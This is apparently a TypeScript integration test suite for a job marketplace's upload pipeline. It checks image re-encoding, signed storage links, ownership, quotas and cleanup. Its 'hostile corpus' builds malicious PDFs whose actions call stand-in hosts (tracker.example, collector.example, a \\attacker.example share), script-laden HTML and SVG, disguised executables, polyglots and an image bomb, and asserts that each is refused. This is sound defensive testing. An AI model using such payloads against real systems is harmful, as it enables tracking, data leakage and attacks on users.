import type { MikroORM } from '@mikro-orm/postgresql';
import sharp from 'sharp';
import {
  ACCESS_MESSAGES,
  type PresignUploadResponse,
  PROFILE_PICTURE_MESSAGES,
  type ProfilePictureResponse,
  type ResumeDownloadResponse,
  type ResumeSummary,
  type SessionResponse,
  UPLOAD_FLOW_MESSAGES,
  UPLOAD_LIMITS,
  UPLOAD_MESSAGES,
  type UploadFileResponse,
  type UploadedFile,
  type UserProfile,
} from '@marketplace/contracts';
import type { AppConfig } from '../../src/config/app-config';
import { contentDisposition } from '../../src/infrastructure/storage/s3-object-storage';
import { UploadProcessingService } from '../../src/modules/uploads/upload-processing.service';
import { type RunningStack, startApiAndWorker } from '../support/app-with-worker';
import { buildPdf } from '../support/pdf-builder';
import { clearRateLimits, openOrm } from '../support/database';
import { eventually, HttpSession } from '../support/http-session';
import { testStorage } from '../support/storage';
import { type FileMeta, presign, putToStorage, settledUpload, uploadThroughFlow } from '../support/upload-flow';
import { testConfig } from '../support/test-config';
import {
  animatedGif,
  docxWithText,
  ELF,
  EXECUTABLE,
  hasGps,
  HTML_WITH_SCRIPT,
  htmlPdfPolyglot,
  jpegWithGps,
  pdfWithJavaScript,
  pdfWithObjectStream,
  pdfWithMarkup,
  pdfWithText,
  pdfZipPolyglot,
  pngBomb,
  pngOf,
  SVG_WITH_SCRIPT,
} from '../support/upload-fixtures';

const PASSWORD = 'Correct-horse-9';

describe('uploads over HTTP: presign, PUT to storage, confirm, the worker', () => {
  let config: AppConfig;
  let stack: RunningStack;
  let orm: MikroORM;
  let ipCounter = 0;
  let storage: ReturnType<typeof testStorage>;

  const browser = () => new HttpSession(stack.baseUrl, config.publicOrigin, `198.51.100.${++ipCounter}`);

  const signUp = async (role: 'seeker' | 'employer', email: string) => {
    const session = browser();
    const answer = await session.post<SessionResponse>('/api/auth/sign-up', {
      email,
      password: PASSWORD,
      name: 'Upload Tester',
      role,
      ...(role === 'employer' ? { companyName: `Company of ${email}` } : {}),
    });
    expect(answer.status).toBe(201);
    return { session, user: answer.body.user! };
  };

  const upload = uploadThroughFlow;
  const settled = settledUpload;
  const put = putToStorage;

  const keysOf = async (ownerId: string) => (await storage.list(`uploads/${ownerId}/`)).sort();

  beforeAll(async () => {
    config = testConfig({ PUBLIC_URL: 'http://localhost:3000' });
    orm = await openOrm(config);
    await clearRateLimits(config.redisUrl);
    storage = testStorage(config);
    stack = await startApiAndWorker(config);
  });

  afterAll(async () => {
    await stack?.close();
    storage?.destroy();
    await orm?.close(true);
  });

  describe('a profile picture from start to finish', () => {
    it('is re-encoded to 256 and 64 px WebP without its metadata, becomes the picture, and shows through signed links only', async () => {
      const { session, user } = await signUp('seeker', 'avatar.flow@example.com');
      const photo = await jpegWithGps();
      expect(await hasGps(photo)).toBe(true);
      const { signed, confirm } = await upload(session, photo, {
        fileName: 'me.jpg',
        fileType: 'image/jpeg',
        uploadType: 'avatar',
      });
      expect(signed.fileKey).toBe(`uploads/${user.id}/${signed.uploadId}/original`);
      expect(confirm.status).toBe(200);
      expect(confirm.body.file).toMatchObject({
        id: signed.uploadId,
        fileUrl: signed.fileUrl,
        status: 'processing',
        url: null,
        fileName: 'me.jpg',
      });

      const file = await settled(session, signed.uploadId);
      expect(file).toMatchObject({ status: 'ready', rejectionReason: null });
      // The original (with its GPS) is gone; only the re-encoded squares remain.
      expect(await keysOf(user.id)).toEqual([
        `uploads/${user.id}/${signed.uploadId}/256.webp`,
        `uploads/${user.id}/${signed.uploadId}/64.webp`,
      ]);

      const image = await fetch(file.url!);
      expect(image.status).toBe(200);
      expect(image.headers.get('content-type')).toBe('image/webp');
      const pixels = Buffer.from(await image.arrayBuffer());
      const meta = await sharp(pixels).metadata();
      expect(meta).toMatchObject({ format: 'webp', width: 256, height: 256 });
      expect(meta.exif).toBeUndefined();
      expect(await hasGps(pixels)).toBe(false);
      // The EXIF orientation was applied: the red half is now on top.
      const { data } = await sharp(pixels).raw().toBuffer({ resolveWithObject: true });
      expect(data[0]!).toBeGreaterThan(200);
      expect(data[2]!).toBeLessThan(60);
      expect((await sharp(await storage.read(`uploads/${user.id}/${signed.uploadId}/64.webp`)).metadata()).width).toBe(
        64,
      );

      // Nothing on the bucket is public.
      expect((await fetch(signed.fileUrl)).status).toBe(403);
      expect((await fetch(storage.objectUrl(`uploads/${user.id}/${signed.uploadId}/256.webp`))).status).toBe(403);

      const patched = await session.patch<UserProfile>('/api/user/profile', { profilePictureUrl: signed.fileUrl });
      expect(patched.status).toBe(200);
      expect(patched.body.profilePictureUrl).toBe(signed.fileUrl);
      expect(patched.body.presignedProfilePictureUrl).toMatch(/X-Amz-Signature=/);
      expect((await fetch(patched.body.presignedProfilePictureUrl!)).status).toBe(200);
      const own = await session.get<ProfilePictureResponse>('/api/user/profile-picture');
      expect(own.body.profilePictureUrl).toMatch(/256\.webp\?.*X-Amz-Signature=/);
      expect(own.headers.get('cache-control')).toBe('private, no-store');

      // Removing it sets null and deletes the files.
      const removed = await session.patch<UserProfile>('/api/user/profile', { profilePictureUrl: null });
      expect(removed.body).toMatchObject({ profilePictureUrl: null, presignedProfilePictureUrl: null });
      expect(await keysOf(user.id)).toEqual([]);
      expect((await session.get<ProfilePictureResponse>('/api/user/profile-picture')).body).toEqual({
        profilePictureUrl: null,
      });
    });

    it('keeps Gravatar links as they are and refuses any other outside link', async () => {
      const { session } = await signUp('seeker', 'gravatar@example.com');
      const gravatar = 'https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50';
      expect(
        (await session.patch<UserProfile>('/api/user/profile', { profilePictureUrl: gravatar })).body
          .presignedProfilePictureUrl,
      ).toBe(gravatar);
      expect((await session.get<ProfilePictureResponse>('/api/user/profile-picture')).body.profilePictureUrl).toBe(
        gravatar,
      );
      const outside = await session.patch('/api/user/profile', {
        profilePictureUrl: 'https://tracker.example/pixel.png',
      });
      expect(outside.status).toBe(400);
      expect(outside.body).toMatchObject({ error: ACCESS_MESSAGES.profilePictureNotAllowed });
    });
  });

  describe('limits checked before anything is signed', () => {
    let session: HttpSession;
    beforeAll(async () => {
      ({ session } = await signUp('seeker', 'limits@example.com'));
    });

    it.each([
      [
        'an avatar of 5 MB',
        { fileName: 'big.png', fileType: 'image/png', fileSize: UPLOAD_LIMITS.avatarMaxBytes, uploadType: 'avatar' },
        'fileSize',
        PROFILE_PICTURE_MESSAGES.tooLarge,
      ],
      [
        'an SVG avatar',
        { fileName: 'logo.svg', fileType: 'image/svg+xml', fileSize: 100, uploadType: 'avatar' },
        'fileType',
        PROFILE_PICTURE_MESSAGES.badType,
      ],
      [
        'an HTML avatar',
        { fileName: 'me.html', fileType: 'text/html', fileSize: 100, uploadType: 'avatar' },
        'fileType',
        PROFILE_PICTURE_MESSAGES.badType,
      ],
      [
        'a PNG named .jpg',
        { fileName: 'me.jpg', fileType: 'image/png', fileSize: 100, uploadType: 'avatar' },
        'fileType',
        PROFILE_PICTURE_MESSAGES.badType,
      ],
      [
        'a document over 10 MB',
        { fileName: 'cv.pdf', fileType: 'application/pdf', fileSize: 10 * 1024 * 1024 + 1 },
        'fileSize',
        UPLOAD_MESSAGES.tooLarge(10),
      ],
      [
        'a text resume',
        { fileName: 'cv.txt', fileType: 'text/plain', fileSize: 100 },
        'fileType',
        UPLOAD_MESSAGES.badType(['.pdf', '.doc', '.docx']),
      ],
      [
        'an executable',
        { fileName: 'cv.exe', fileType: 'application/x-msdownload', fileSize: 100 },
        'fileType',
        UPLOAD_MESSAGES.badType(['.pdf', '.doc', '.docx']),
      ],
      [
        'an empty file',
        { fileName: 'cv.pdf', fileType: 'application/pdf', fileSize: 0 },
        'fileSize',
        UPLOAD_FLOW_MESSAGES.fileEmpty,
      ],
      [
        'a fractional size',
        { fileName: 'cv.pdf', fileType: 'application/pdf', fileSize: 1.5 },
        'fileSize',
        UPLOAD_FLOW_MESSAGES.fileSizeInvalid,
      ],
      [
        'no name',
        { fileName: '  ', fileType: 'application/pdf', fileSize: 10 },
        'fileName',
        UPLOAD_FLOW_MESSAGES.fileNameRequired,
      ],
      [
        'an unknown upload type',
        { fileName: 'a.pdf', fileType: 'application/pdf', fileSize: 10, uploadType: 'video' },
        'uploadType',
        UPLOAD_FLOW_MESSAGES.uploadTypeInvalid,
      ],
    ])('refuses %s', async (_, body, field, message) => {
      const answer = await session.post('/api/upload/presigned-url', body);
      expect(answer.status).toBe(400);
      expect(answer.body).toMatchObject({ fieldErrors: { [field]: [message] } });
    });

    it('takes a text file as an attachment, and refuses presigning for anonymous callers', async () => {
      const answer = await session.post<PresignUploadResponse>('/api/upload/presigned-url', {
        fileName: 'notes.txt',
        fileType: 'text/plain',
        fileSize: 20,
        purpose: 'attachment',
      });
      expect(answer.status).toBe(200);
      expect(answer.body.uploadUrl).toMatch(/X-Amz-SignedHeaders=content-length%3Bcontent-type%3Bhost/);
      expect(
        (
          await browser().post('/api/upload/presigned-url', {
            fileName: 'a.pdf',
            fileType: 'application/pdf',
            fileSize: 10,
          })
        ).status,
      ).toBe(401);
    });
  });

  describe('storage refuses what was not signed', () => {
    it('refuses another type, another length and a changed signature; the signed PUT works once right', async () => {
      const { session } = await signUp('seeker', 'storage.refuses@example.com');
      const file = pdfWithText('Resume of a careful person');
      const signed = (await presign(session, file, { fileName: 'cv.pdf', fileType: 'application/pdf' })).body;
      expect((await put(signed.uploadUrl, file, 'text/html')).status).toBe(403);
      expect((await put(signed.uploadUrl, Buffer.concat([file, Buffer.from(' ')]), 'application/pdf')).status).toBe(
        403,
      );
      expect(
        (await put(signed.uploadUrl.replace(/X-Amz-Signature=[0-9a-f]/, 'X-Amz-Signature=x'), file, 'application/pdf'))
          .status,
      ).toBe(403);
      expect((await put(signed.uploadUrl.replace('original', 'other'), file, 'application/pdf')).status).toBe(403);
      expect((await put(signed.uploadUrl, file, 'application/pdf')).status).toBe(200);
    });
  });

  describe('confirm', () => {
    it('checks the object exists, and answers the same to a second confirm', async () => {
      const { session } = await signUp('seeker', 'confirm.twice@example.com');
      const file = pdfWithText('Twice');
      const signed = (await presign(session, file, { fileName: 'cv.pdf', fileType: 'application/pdf' })).body;
      const early = await session.post('/api/upload/confirm', { uploadId: signed.uploadId, fileUrl: signed.fileUrl });
      expect(early.status).toBe(400);
      expect(early.body).toMatchObject({ error: UPLOAD_FLOW_MESSAGES.notUploaded });
      await put(signed.uploadUrl, file, 'application/pdf');
      const wrongUrl = await session.post('/api/upload/confirm', {
        uploadId: signed.uploadId,
        fileUrl: `${signed.fileUrl}x`,
      });
      expect(wrongUrl.status).toBe(400);
      const first = await session.post<UploadFileResponse>('/api/upload/confirm', {
        uploadId: signed.uploadId,
        fileUrl: signed.fileUrl,
      });
      const second = await session.post<UploadFileResponse>('/api/upload/confirm', {
        uploadId: signed.uploadId,
        fileUrl: signed.fileUrl,
      });
      expect(first.status).toBe(200);
      expect(second.status).toBe(200);
      expect(second.body.file.id).toBe(first.body.file.id);
      expect(await settled(session, signed.uploadId)).toMatchObject({ status: 'ready' });
    });

    it('belongs to the uploader: nobody else can confirm, read or use it', async () => {
      const owner = await signUp('seeker', 'owner@example.com');
      const other = await signUp('employer', 'other@example.com');
      const image = await pngOf(300, 300);
      const signed = (
        await presign(owner.session, image, { fileName: 'me.png', fileType: 'image/png', uploadType: 'avatar' })
      ).body;
      await put(signed.uploadUrl, image, 'image/png');
      const stolen = await other.session.post('/api/upload/confirm', {
        uploadId: signed.uploadId,
        fileUrl: signed.fileUrl,
      });
      expect(stolen.status).toBe(404);
      expect(
        (await owner.session.post('/api/upload/confirm', { uploadId: signed.uploadId, fileUrl: signed.fileUrl }))
          .status,
      ).toBe(200);
      await settled(owner.session, signed.uploadId);
      expect((await other.session.get(`/api/upload/${signed.uploadId}`)).status).toBe(404);
      expect((await other.session.get('/api/upload/not-a-uuid')).status).toBe(404);
      const taken = await other.session.patch('/api/user/profile', { profilePictureUrl: signed.fileUrl });
      expect(taken.status).toBe(400);
      expect(taken.body).toMatchObject({ error: UPLOAD_FLOW_MESSAGES.notFound });
    });
  });

  describe('the hostile corpus: refused or neutralised, never served as ready', () => {
    let session: HttpSession;
    beforeAll(async () => {
      ({ session } = await signUp('seeker', 'hostile@example.com'));
    });

    /** Uploads `file`; answers the final status and reason (refused at confirm, or by the worker). */
    const verdict = async (
      file: Buffer,
      meta: FileMeta,
    ): Promise<{ status: string; reason: string | null; file?: UploadedFile }> => {
      const { signed, confirm } = await upload(session, file, meta);
      if (confirm.status === 400) {
        const stored = (await session.get<UploadFileResponse>(`/api/upload/${signed.uploadId}`)).body.file;
        expect(stored).toMatchObject({ status: 'rejected', url: null });
        expect(await storage.head(signed.fileKey)).toBeNull();
        return { status: 'rejected', reason: (confirm.body as unknown as { error: string }).error };
      }
      expect(confirm.status).toBe(200);
      const settledFile = await settled(session, signed.uploadId);
      return { status: settledFile.status, reason: settledFile.rejectionReason, file: settledFile };
    };

    it.each([
      [
        'HTML named .png',
        () => HTML_WITH_SCRIPT,
        { fileName: 'me.png', fileType: 'image/png', uploadType: 'avatar' },
        UPLOAD_FLOW_MESSAGES.typeMismatch,
      ],
      [
        'SVG with a script named .png',
        () => SVG_WITH_SCRIPT,
        { fileName: 'me.png', fileType: 'image/png', uploadType: 'avatar' },
        UPLOAD_FLOW_MESSAGES.typeMismatch,
      ],
      [
        'a PNG declared as JPEG',
        () => pngOf(20, 20),
        { fileName: 'me.jpg', fileType: 'image/jpeg', uploadType: 'avatar' },
        UPLOAD_FLOW_MESSAGES.typeMismatch,
      ],
      [
        'an executable named .pdf',
        () => EXECUTABLE,
        { fileName: 'cv.pdf', fileType: 'application/pdf' },
        UPLOAD_FLOW_MESSAGES.typeMismatch,
      ],
      [
        'an ELF binary named .docx',
        () => ELF,
        { fileName: 'cv.docx', fileType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' },
        UPLOAD_FLOW_MESSAGES.typeMismatch,
      ],
      [
        'an HTML page with a PDF inside',
        () => htmlPdfPolyglot(),
        { fileName: 'cv.pdf', fileType: 'application/pdf' },
        UPLOAD_FLOW_MESSAGES.typeMismatch,
      ],
      [
        'a PDF with markup up front',
        () => pdfWithMarkup(),
        { fileName: 'cv.pdf', fileType: 'application/pdf' },
        UPLOAD_FLOW_MESSAGES.typeMismatch,
      ],
      [
        'a PDF with a ZIP appended',
        () => pdfZipPolyglot(),
        { fileName: 'cv.pdf', fileType: 'application/pdf' },
        UPLOAD_FLOW_MESSAGES.typeMismatch,
      ],
      [
        'a PDF that runs JavaScript',
        () => pdfWithJavaScript(),
        { fileName: 'cv.pdf', fileType: 'application/pdf' },
        UPLOAD_FLOW_MESSAGES.pdfActiveContent,
      ],
      [
        'a PDF whose JavaScript hides in a compressed object stream',
        () => pdfWithObjectStream('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),
        { fileName: 'cv.pdf', fileType: 'application/pdf' },
        UPLOAD_FLOW_MESSAGES.pdfActiveContent,
      ],
      [
        'a PDF whose JavaScript hides in an object stream without /Type, after a comment, behind a predictor',
        () =>
          pdfWithObjectStream('<< /S /JavaScript /JS (app.alert\\(1\\)) >>', {
            typed: false,
            commentBeforeStream: true,
            predictorColumns: 8,
          }),
        { fileName: 'cv.pdf', fileType: 'application/pdf' },
        UPLOAD_FLOW_MESSAGES.pdfActiveContent,
      ],
      [
        'a PDF that opens a web page when opened',
        () => buildPdf({ catalog: '/OpenAction << /S /URI /URI (https://tracker.example/opened) >>' }),
        { fileName: 'cv.pdf', fileType: 'application/pdf' },
        UPLOAD_FLOW_MESSAGES.pdfActiveContent,
      ],
      [
        'a PDF that submits its form when closed',
        () =>
          buildPdf({ catalog: '/AA << /WC << /S /SubmitForm /F << /FS /URL /F (https://collector.example) >> >> >>' }),
        { fileName: 'cv.pdf', fileType: 'application/pdf' },
        UPLOAD_FLOW_MESSAGES.pdfActiveContent,
      ],
      [
        'a PDF whose link opens a file on a network share',
        () =>
          buildPdf({
            page: '/Annots [6 0 R]',
            objects: {
              6: String.raw`<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /GoToR /F (\\attacker.example\share\cv.pdf) /D [0 /Fit] >> >>`,
            },
          }),
        { fileName: 'cv.pdf', fileType: 'application/pdf' },
        UPLOAD_FLOW_MESSAGES.pdfActiveContent,
      ],
      [
        'a PDF pdf.js cannot read',
        () => Buffer.from('%PDF-1.7\nthis is no PDF body at all\n%%EOF\n', 'latin1'),
        { fileName: 'cv.pdf', fileType: 'application/pdf' },
        UPLOAD_FLOW_MESSAGES.documentUnreadable,
      ],
      [
        'a truncated PDF',
        () => pdfWithText('Cut').subarray(0, 120),
        { fileName: 'cv.pdf', fileType: 'application/pdf' },
        UPLOAD_FLOW_MESSAGES.typeMismatch,
      ],
      [
        'HTML as a text attachment',
        () => HTML_WITH_SCRIPT,
        { fileName: 'notes.txt', fileType: 'text/plain', purpose: 'attachment' },
        UPLOAD_FLOW_MESSAGES.typeMismatch,
      ],
      [
        'a 20,000 x 20,000 px PNG',
        () => pngBomb(),
        { fileName: 'bomb.png', fileType: 'image/png', uploadType: 'avatar' },
        UPLOAD_FLOW_MESSAGES.imageTooLarge,
      ],
    ] as Array<[string, () => Buffer | Promise<Buffer>, FileMeta, string]>)(
      'refuses %s',
      async (_, make, meta, reason) => {
        expect(await verdict(await make(), meta)).toMatchObject({ status: 'rejected', reason });
      },
    );

    it('keeps the first frame of an animated GIF and reads the text of PDF, DOCX and TXT files', async () => {
      const gif = await verdict(await animatedGif(), {
        fileName: 'wave.gif',
        fileType: 'image/gif',
        uploadType: 'avatar',
      });
      expect(gif.status).toBe('ready');
      const webp = await sharp(Buffer.from(await (await fetch(gif.file!.url!)).arrayBuffer())).metadata();
      expect(webp).toMatchObject({ format: 'webp', width: 256, height: 256 });
      expect(webp.pages ?? 1).toBe(1);

      for (const [file, meta, text] of [
        [
          pdfWithText('Maya Patel, bookkeeper (QuickBooks)'),
          { fileName: 'cv.pdf', fileType: 'application/pdf' },
          'Maya Patel, bookkeeper (QuickBooks)',
        ],
        [
          // Opening at its page, a jump and a web link that need a click: a PDF's ordinary actions.
          buildPdf({
            text: 'Maya Patel, linked',
            catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>',
            page: '/Annots [6 0 R]',
            objects: {
              6: '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://example.com/maya) >> >>',
            },
            objectStream: { numbers: [6], predictorColumns: 8 },
          }),
          { fileName: 'linked.pdf', fileType: 'application/pdf' },
          'Maya Patel, linked',
        ],
        [
          await docxWithText('Remote customer support lead'),
          { fileName: 'cv.docx', fileType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' },
          'Remote customer support lead',
        ],
        [
          Buffer.from('Plain notes\nline two'),
          { fileName: 'notes.txt', fileType: 'text/plain', purpose: 'attachment' },
          'Plain notes\nline two',
        ],
      ] as Array<[Buffer, FileMeta, string]>) {
        const result = await verdict(file, meta);
        expect(result.status).toBe('ready');
        const rows = await orm.em
          .fork()
          .getConnection()
          .execute<Array<{ extracted_text: string }>>(`select "extracted_text" from "uploads" where "id" = ?`, [
            result.file!.id,
          ]);
        expect(rows[0]!.extracted_text).toContain(text);
        const download = await fetch(result.file!.url!);
        expect(download.status).toBe(200);
        expect(download.headers.get('content-type')).toBe(meta.fileType);
      }
    });
  });

  describe('a confirmed file is out of the uploader’s reach', () => {
    /** What a hostile uploader sends along with the PUT: none of it is signed. */
    const HOSTILE_HEADERS = {
      'content-disposition': 'attachment; filename="Resume.pdf.exe"',
      'x-amz-meta-origin': 'uploader',
    };
    const putWith = (url: string, file: Buffer, contentType: string) =>
      fetch(url, { method: 'PUT', headers: { 'content-type': contentType, ...HOSTILE_HEADERS }, body: file });
    /** `start` cut or padded with new lines to `length` bytes: the PUT link only takes the signed length. */
    const sameLength = (start: Buffer, length: number) =>
      Buffer.concat([start, Buffer.alloc(Math.max(0, length - start.length), '\n')]).subarray(0, length);
    /** Nothing the uploader chose among a read's headers. */
    const expectOurHeaders = (answer: Response, contentType: string, disposition: string | null) => {
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toBe(contentType);
      expect(answer.headers.get('content-disposition')).toBe(disposition);
      expect([...answer.headers.keys()].filter((name) => name.startsWith('x-amz-meta-'))).toEqual([]);
    };

    it('serves the checked bytes with our headers, however often the PUT link is used after confirm', async () => {
      const { session, user } = await signUp('seeker', 'swap.resume@example.com');
      const withScript = pdfWithJavaScript();
      // Longer than the swap, which is padded to its length (a PUT link only takes the signed length).
      const resume = pdfWithText(
        `Maya Patel, bookkeeper. ${'Remote work for small firms. '.repeat(Math.ceil(withScript.length / 29))}`,
      );
      expect(withScript.length).toBeLessThan(resume.length);
      const signed = (await presign(session, resume, { fileName: 'Resume.pdf', fileType: 'application/pdf' })).body;
      // The first PUT already carries headers of the uploader's choosing.
      expect((await putWith(signed.uploadUrl, resume, 'application/pdf')).status).toBe(200);
      const confirm = await session.post<UploadFileResponse>('/api/upload/confirm', {
        uploadId: signed.uploadId,
        fileUrl: signed.fileUrl,
      });
      expect(confirm.body.file.status).toBe('processing');

      // Swapped while the worker has it: the worker checks the copy confirm made, not this.
      expect((await putWith(signed.uploadUrl, sameLength(withScript, resume.length), 'application/pdf')).status).toBe(
        200,
      );
      expect(await settled(session, signed.uploadId)).toMatchObject({ status: 'ready', rejectionReason: null });
      // Swapped after it is ready, and confirmed again.
      const executable = sameLength(EXECUTABLE, resume.length);
      expect((await putWith(signed.uploadUrl, executable, 'application/pdf')).status).toBe(200);
      const again = await session.post<UploadFileResponse>('/api/upload/confirm', {
        uploadId: signed.uploadId,
        fileUrl: signed.fileUrl,
      });
      expect(again.body.file.status).toBe('ready');

      expect(await storage.read(signed.fileKey)).toEqual(resume);
      expect(await storage.head(signed.fileKey)).toEqual({ size: resume.length, contentType: 'application/pdf' });
      const own = await fetch(again.body.file.url!);
      expectOurHeaders(own, 'application/pdf', contentDisposition('inline', 'Resume.pdf'));
      expect(Buffer.from(await own.arrayBuffer())).toEqual(resume);

      // As a resume: the link an employer is given reads the same bytes, with the same headers.
      const attached = await session.post<ResumeSummary>('/api/seeker/resumes', { uploadId: signed.uploadId });
      expect(attached.status).toBe(201);
      const link = (await session.get<ResumeDownloadResponse>(`/api/seeker/resumes/${attached.body.id}/download`)).body;
      const download = await fetch(link.downloadUrl);
      expectOurHeaders(download, 'application/pdf', contentDisposition('inline', `${attached.body.name}.pdf`));
      expect(Buffer.from(await download.arrayBuffer())).toEqual(resume);
      // What the last PUT left sits on the staging key, which no link reads; it goes with the upload.
      expect(await keysOf(user.id)).toEqual(
        [signed.fileKey, `uploads/${user.id}/${signed.uploadId}/incoming/original`].sort(),
      );
    });

    it('downloads a document under our name and type, not the ones sent with the PUT', async () => {
      const { session } = await signUp('seeker', 'swap.docx@example.com');
      const docx = await docxWithText('Remote customer support lead');
      const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
      const signed = (await presign(session, docx, { fileName: 'cv.docx', fileType: type })).body;
      expect((await putWith(signed.uploadUrl, docx, type)).status).toBe(200);
      await session.post('/api/upload/confirm', { uploadId: signed.uploadId, fileUrl: signed.fileUrl });
      expect(await settled(session, signed.uploadId)).toMatchObject({ status: 'ready' });
      const attached = await session.post<ResumeSummary>('/api/seeker/resumes', {
        uploadId: signed.uploadId,
        name: 'Support',
      });
      const link = (await session.get<ResumeDownloadResponse>(`/api/seeker/resumes/${attached.body.id}/download`)).body;
      const download = await fetch(link.downloadUrl);
      expectOurHeaders(download, type, contentDisposition('attachment', 'Support.docx'));
      expect(Buffer.from(await download.arrayBuffer())).toEqual(docx);
    });

    it('shows a picture as our WebP, whatever was sent with the PUT', async () => {
      const { session } = await signUp('seeker', 'swap.avatar@example.com');
      const image = await pngOf(80, 80);
      const signed = (
        await presign(session, image, { fileName: 'me.png', fileType: 'image/png', uploadType: 'avatar' })
      ).body;
      expect((await putWith(signed.uploadUrl, image, 'image/png')).status).toBe(200);
      await session.post('/api/upload/confirm', { uploadId: signed.uploadId, fileUrl: signed.fileUrl });
      const file = await settled(session, signed.uploadId);
      expect(file.status).toBe('ready');
      const picture = await fetch(file.url!);
      expectOurHeaders(picture, 'image/webp', null);
      expect((await sharp(Buffer.from(await picture.arrayBuffer())).metadata()).format).toBe('webp');
    });
  });

  describe('the quota under concurrency', () => {
    it('signs at most the quota when 25 requests of 10 MB arrive at once', async () => {
      const { session, user } = await signUp('seeker', 'quota.race@example.com');
      const answers = await Promise.all(
        Array.from({ length: 25 }, (_, index) =>
          session.post<PresignUploadResponse>('/api/upload/presigned-url', {
            fileName: `cv-${index}.pdf`,
            fileType: 'application/pdf',
            fileSize: 10 * 1024 * 1024,
          }),
        ),
      );
      const signedCount = UPLOAD_LIMITS.userQuotaBytes / (10 * 1024 * 1024);
      expect(answers.filter((answer) => answer.status === 200)).toHaveLength(signedCount);
      for (const refused of answers.filter((answer) => answer.status !== 200)) {
        expect(refused.status).toBe(400);
        expect(refused.body).toMatchObject({ fieldErrors: { fileSize: [UPLOAD_FLOW_MESSAGES.quotaExceeded] } });
      }
      const [reserved] = await orm.em
        .fork()
        .getConnection()
        .execute<Array<{ total: string }>>(
          `select coalesce(sum("file_size"), 0) as "total" from "uploads" where "owner_id" = ? and "status" <> 'rejected'`,
          [user.id],
        );
      expect(Number(reserved!.total)).toBe(UPLOAD_LIMITS.userQuotaBytes);
    });
  });

  describe('housekeeping', () => {
    it('removes uploads never confirmed within 24 hours, with their objects', async () => {
      const { session, user } = await signUp('seeker', 'sweep@example.com');
      const file = pdfWithText('Never confirmed');
      const signed = (await presign(session, file, { fileName: 'cv.pdf', fileType: 'application/pdf' })).body;
      await put(signed.uploadUrl, file, 'application/pdf');
      const fresh = (await presign(session, file, { fileName: 'cv2.pdf', fileType: 'application/pdf' })).body;
      await orm.em
        .fork()
        .getConnection()
        .execute(`update "uploads" set "created_at" = now() - interval '25 hours' where "id" = ?`, [signed.uploadId]);
      const result = await stack.worker.get(UploadProcessingService).sweep();
      expect(result.unconfirmed).toBeGreaterThanOrEqual(1);
      expect(await storage.head(signed.fileKey)).toBeNull();
      expect((await session.get(`/api/upload/${signed.uploadId}`)).status).toBe(404);
      expect((await session.get<UploadFileResponse>(`/api/upload/${fresh.uploadId}`)).body.file.status).toBe('pending');
      expect(await keysOf(user.id)).toEqual([]);
    });

    it("deletes a deleted account's files from storage", async () => {
      const { session, user } = await signUp('seeker', 'leaving@example.com');
      const { signed } = await upload(session, pdfWithText('Leaving soon'), {
        fileName: 'cv.pdf',
        fileType: 'application/pdf',
      });
      await settled(session, signed.uploadId);
      expect(await keysOf(user.id)).toHaveLength(1);
      const deleted = await session.post('/api/account/delete', { confirmEmail: 'leaving@example.com' });
      expect(deleted.status).toBe(200);
      // The worker removes the objects first and the rows after them (rows left behind let the sweep
      // find objects a failed job left): wait for both.
      const rowsOf = () =>
        orm.em.fork().getConnection().execute<unknown[]>(`select 1 from "uploads" where "owner_id" = ?`, [user.id]);
      await eventually(async () => (await keysOf(user.id)).length === 0 && (await rowsOf()).length === 0, 20_000);
      expect(await keysOf(user.id)).toEqual([]);
      expect(await rowsOf()).toHaveLength(0);
    });
  });

  describe('deleted accounts whose deletion job was lost', () => {
    it('lose their files at the next sweep', async () => {
      const { session, user } = await signUp('seeker', 'lost.job@example.com');
      const { signed } = await upload(session, pdfWithText('Left without a job'), {
        fileName: 'cv.pdf',
        fileType: 'application/pdf',
      });
      await settled(session, signed.uploadId);
      // As if the account-deleted event's job never reached the queue.
      await orm.em.fork().getConnection().execute(`update "users" set "deleted_at" = now() where "id" = ?`, [user.id]);
      const result = await stack.worker.get(UploadProcessingService).sweep();
      expect(result.deletedAccounts).toBeGreaterThanOrEqual(1);
      expect(await keysOf(user.id)).toEqual([]);
      expect(
        await orm.em.fork().getConnection().execute(`select 1 from "uploads" where "owner_id" = ?`, [user.id]),
      ).toHaveLength(0);
    });
  });

  describe('profile pictures of other people', () => {
    it('shows a picture only to those who may see that person', async () => {
      const seeker = await signUp('seeker', 'pictured.seeker@example.com');
      const otherSeeker = await signUp('seeker', 'curious.seeker@example.com');
      const employer = await signUp('employer', 'pictured.employer@example.com');
      const { signed } = await upload(seeker.session, await pngOf(64, 64), {
        fileName: 'me.png',
        fileType: 'image/png',
        uploadType: 'avatar',
      });
      await settled(seeker.session, signed.uploadId);
      await seeker.session.patch('/api/user/profile', { profilePictureUrl: signed.fileUrl });

      const byEmployer = await employer.session.get<ProfilePictureResponse>(
        `/api/user/profile-picture/${seeker.user.id}`,
      );
      expect(byEmployer.status).toBe(200);
      expect((await fetch(byEmployer.body.profilePictureUrl!)).status).toBe(200);
      expect(
        (await employer.session.get<ProfilePictureResponse>(`/api/applicant/profile-picture/${seeker.user.id}`)).body
          .profilePictureUrl,
      ).toMatch(/X-Amz-Signature/);
      // Another seeker may not; an applicant must be a seeker and a concierge an admin.
      expect((await otherSeeker.session.get(`/api/user/profile-picture/${seeker.user.id}`)).status).toBe(404);
      expect((await otherSeeker.session.get(`/api/applicant/profile-picture/${seeker.user.id}`)).status).toBe(403);
      expect((await employer.session.get(`/api/applicant/profile-picture/${employer.user.id}`)).status).toBe(404);
      expect((await employer.session.get(`/api/concierge/profile-picture/${seeker.user.id}`)).status).toBe(404);
      expect((await seeker.session.get(`/api/user/profile-picture/${employer.user.id}`)).body).toEqual({
        profilePictureUrl: null,
      });
      expect((await browser().get(`/api/user/profile-picture/${seeker.user.id}`)).status).toBe(401);
    });
  });
});
